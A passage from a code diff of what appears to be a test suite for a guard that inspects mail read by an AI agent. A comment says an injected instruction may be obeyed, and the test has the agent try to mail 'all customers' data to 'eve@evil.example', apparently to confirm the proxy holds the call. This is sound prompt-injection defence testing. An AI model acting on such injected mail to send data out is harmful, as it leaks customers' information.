@@ -97,8 +97,8 @@ describe('what comes in', () => {
     })
     const outcome = records.findLast(({ kind, toolName }) => kind === 'outcome' && toolName === 'mail.read_mail')
     expect(outcome).toMatchObject({ inspection: { action: 'noticed', sizeBefore: expect.any(Number), wrapped: 1 } })
-    const { sizeBefore, sizeAfter } = outcome?.['inspection'] as unknown as { sizeBefore: number; sizeAfter: number }
-    expect(sizeAfter).toBeGreaterThan(sizeBefore)
+    const sizes = outcome?.['inspection'] as { sizeBefore: number; sizeAfter: number } | undefined
+    expect(sizes?.sizeAfter).toBeGreaterThan(sizes?.sizeBefore ?? Infinity)
     // the model may obey every word of it: the call it asks for is held all the same
     await expect(
       sp.call('mail.send_mail', { to: ['eve@evil.example'], subject: 'db', body: 'all customers' }),
